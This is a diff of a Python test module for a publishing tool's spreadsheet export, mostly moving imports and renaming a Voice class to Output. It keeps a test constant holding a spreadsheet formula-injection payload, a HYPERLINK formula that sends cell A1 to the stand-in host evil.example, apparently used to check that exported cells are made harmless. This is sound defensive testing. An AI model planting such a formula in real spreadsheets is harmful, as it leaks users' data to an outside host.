@@ -12,17 +12,17 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from syndicate.cli.sheets import Sheet
-from syndicate.cli.spreadsheet import csv_bytes, harmless, runs
-from syndicate.cli.voice import Voice
-from syndicate.desk.reports import Report
+from syndicate.cli.ui.output import Output
+from syndicate.cli.ui.report_tables import Sheet
+from syndicate.cli.ui.spreadsheet import csv_bytes, harmless, runs
 from syndicate.language import Lang, Text
 from syndicate.model.item import Medium
 from syndicate.model.names import OutletId, PartnerId
 from syndicate.model.parties import Partner
 from syndicate.model.rights import Window
 from syndicate.model.statement import Account, Balance, Row
-from tests.making import PUBLISHER
+from syndicate.services.reports.report_service import Report
+from tests.support.factories import PUBLISHER
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点我")'
 SPAN = Window(datetime(2026, 10, 31, 16, tzinfo=UTC), datetime(2026, 11, 30, 16, tzinfo=UTC))
@@ -126,7 +126,7 @@ def a_sheet(row: Row, name: str, *, finely: bool = False, lines: bool = False) -
     partners = {row.account.partner: Partner(row.account.partner, name)}
     report = Report(SPAN, provisional=False, line=9, rows=(row,))
     heading = [(Text("月份", "month"), "2026-11")]
-    voice = Voice(Lang.ZH, json=False)
+    voice = Output(Lang.ZH, json=False)
     return Sheet(report, heading, partners, PUBLISHER, voice, finely=finely, lines=lines)
 
 
